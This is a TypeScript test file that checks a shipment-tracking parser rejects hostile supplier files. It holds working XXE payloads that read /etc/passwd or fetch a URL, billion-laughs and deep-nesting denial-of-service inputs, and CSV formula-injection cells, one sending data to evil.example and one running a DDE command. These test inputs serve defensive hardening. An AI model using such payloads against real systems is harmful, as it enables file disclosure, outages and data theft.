/**
 * Security: hostile supplier files through the pure parsers. XML with external entities (XXE),
 * internal entity expansion (billion laughs, quadratic blow-up) and deep nesting must be a
 * ParseError, quickly and without a memory spike; a tracking CSV's formula cells are plain text.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { ParseError } from '../../src/errors.ts';
import { parseTrackingCsv } from '../../src/formats/tracking-csv.ts';
import { MAX_XML_DEPTH, parseTrackingXml } from '../../src/formats/tracking-xml.ts';

const RULE = {
  records: 'Shipments.Shipment',
  fields: { poNumber: 'PONumber', trackingNumber: 'TrackingNumber', carrier: 'Carrier' },
} as const;

const PASSWD = readFileSync('/etc/passwd', 'utf8');
const PASSWD_MARK = PASSWD.split('\n')[0]!; // "root:x:0:0:root:/root:/bin/bash"

const doc = (prolog: string, po: string) =>
  `<?xml version="1.0"?>\n${prolog}\n<Shipments><Shipment><PONumber>${po}</PONumber><Carrier>UPS</Carrier><TrackingNumber>1Z1</TrackingNumber></Shipment></Shipments>`;

/** Runs the parser, measuring time and heap growth; returns the error it threw. */
function attack(input: string | Buffer): { error: unknown; ms: number; heapMiB: number; result: unknown } {
  globalThis.gc?.();
  const heap = process.memoryUsage().heapUsed;
  const started = performance.now();
  let error: unknown;
  let result: unknown;
  try {
    result = parseTrackingXml(RULE, input, { file: 'evil.xml' });
  } catch (e) {
    error = e;
  }
  return { error, result, ms: performance.now() - started, heapMiB: (process.memoryUsage().heapUsed - heap) / 2 ** 20 };
}

function expectRefused(outcome: ReturnType<typeof attack>, reason: RegExp): void {
  expect(outcome.error, `parsed into ${JSON.stringify(outcome.result)?.slice(0, 200)}`).toBeInstanceOf(ParseError);
  expect((outcome.error as ParseError).message).toMatch(reason);
  expect((outcome.error as ParseError).message).not.toContain(PASSWD_MARK);
  expect(outcome.heapMiB).toBeLessThan(64);
}

describe('tracking XML: entities', () => {
  const XXE: [string, string, string][] = [
    ['an external entity reading /etc/passwd', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'],
    ['a public external entity', '<!DOCTYPE r [<!ENTITY xxe PUBLIC "-//x//y" "file:///etc/passwd">]>', '&xxe;'],
    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', 'PO-1'],
    ['an entity fetched over HTTP', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/steal">]>', '&xxe;'],
    ['an entity declared in lower case', '<!DOCTYPE r [<!entity xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'],
    ['an entity with odd spacing', '<!DOCTYPE r [\n\t<!ENTITY\n\txxe\n\tSYSTEM\n\t"file:///etc/passwd"\n>]>', '&xxe;'],
  ];

  it.each(XXE)('%s is refused, /etc/passwd never read into the result', (_name, prolog, po) => {
    expectRefused(attack(doc(prolog, po)), /entit/i);
  });

  it('an external DTD (no entity declared) is never fetched, and an undefined entity never resolves to a file', () => {
    const outcome = attack(doc('<!DOCTYPE r SYSTEM "file:///etc/passwd">', '&xxe;'));
    expect(JSON.stringify(outcome.result ?? null)).not.toContain(PASSWD_MARK);
    if (outcome.error) expect(outcome.error).toBeInstanceOf(ParseError);
  });

  it('an XXE attempt in UTF-16 (so that a byte-level search misses <!ENTITY) is refused', () => {
    const text = doc('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;').replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>');
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const outcome = attack(bytes);
    expect(outcome.error).toBeInstanceOf(ParseError);
    expect(JSON.stringify(outcome.result ?? null)).not.toContain(PASSWD_MARK);
  });

  it('billion laughs (nested internal entities) is refused fast, without a memory spike', () => {
    const lol = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    expectRefused(attack(doc(`<!DOCTYPE r [${lol.join('')}]>`, '&lol9;')), /entit/i);
  });

  it('quadratic blow-up (one large entity referenced many times) is refused fast', () => {
    const big = 'A'.repeat(50_000);
    const prolog = `<!DOCTYPE r [<!ENTITY a "${big}">]>`;
    expectRefused(attack(doc(prolog, '&a;'.repeat(20_000))), /entit/i);
  });

  it('the predefined entities still decode (the guard does not refuse ordinary documents)', () => {
    const shipments = parseTrackingXml(RULE, doc('', 'PO&amp;1&lt;&gt;&quot;&apos;'));
    expect(shipments[0]!.poNumber).toBe('PO&1<>"\'');
  });
});

describe('tracking XML: nesting', () => {
  it(`nesting deeper than ${MAX_XML_DEPTH} levels is refused fast`, () => {
    const depth = 100_000;
    const deep = `<Shipments><Shipment>${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}<PONumber>1</PONumber><TrackingNumber>1</TrackingNumber></Shipment></Shipments>`;
    expectRefused(attack(deep), /nested|deep/i);
  });

  it('deep nesting hidden behind attributes holding ">" and comments is still counted', () => {
    const depth = 5_000;
    const deep = `<Shipments>${'<a x=">" y=\'/>\'><!-- > -->'.repeat(depth)}${'</a>'.repeat(depth)}</Shipments>`;
    expectRefused(attack(deep), /nested|deep/i);
  });

  it('a just-deep-enough document is still read (the limit is not set at zero)', () => {
    const inner = MAX_XML_DEPTH - 3;
    const xml = `<Shipments><Shipment><PONumber>P1</PONumber><TrackingNumber>T1</TrackingNumber>${'<a>'.repeat(inner)}${'</a>'.repeat(inner)}</Shipment></Shipments>`;
    expect(parseTrackingXml(RULE, xml)[0]!.poNumber).toBe('P1');
  });

  it('a long document (many records over many lines) is read whole, with the right line numbers', () => {
    // Line numbers come from one index of the newlines, not a count from the start per record (which
    // made such a file quadratic: minutes at the inbound size limit). Timings are for bench/, not here.
    const n = 1_000;
    const xml = `<Shipments>\n${Array.from({ length: n }, (_, i) => `  <Shipment><PONumber>P${i}</PONumber><TrackingNumber>T${i}</TrackingNumber></Shipment>${'\n'.repeat(200)}`).join('')}</Shipments>\n`;
    expect(parseTrackingXml(RULE, xml)).toHaveLength(n);
    const broken = xml.replace('<PONumber>P999</PONumber>', '<PONumber></PONumber>');
    expect(() => parseTrackingXml(RULE, broken)).toThrow(/line 199802/);
  });
});

describe('tracking CSV: formula cells', () => {
  it('=HYPERLINK(...), =cmd|..., @SUM and +/- cells are kept verbatim as text', () => {
    const cells = ['=HYPERLINK("http://evil.example/?d="&A1,"1Z")', "=cmd|' /C calc'!A0", '@SUM(A1:A9)', '+1+1', '-2+3', '=1+1'];
    const csv = ['PO,Tracking,Carrier', ...cells.map((c, i) => `PO-${i},"${c.replace(/"/g, '""')}","${c.replace(/"/g, '""')}"`)].join('\n');
    const shipments = parseTrackingCsv({ columns: { poNumber: 'PO', trackingNumber: 'Tracking', carrier: 'Carrier' }, delimiter: ',' }, csv);
    expect(shipments.map((s) => s.trackingNumbers[0])).toEqual(cells);
    expect(shipments.map((s) => s.carrier)).toEqual(cells);
    // "=1+1" was not computed into 2.
    expect(shipments.some((s) => s.trackingNumbers[0] === '2')).toBe(false);
  });
});
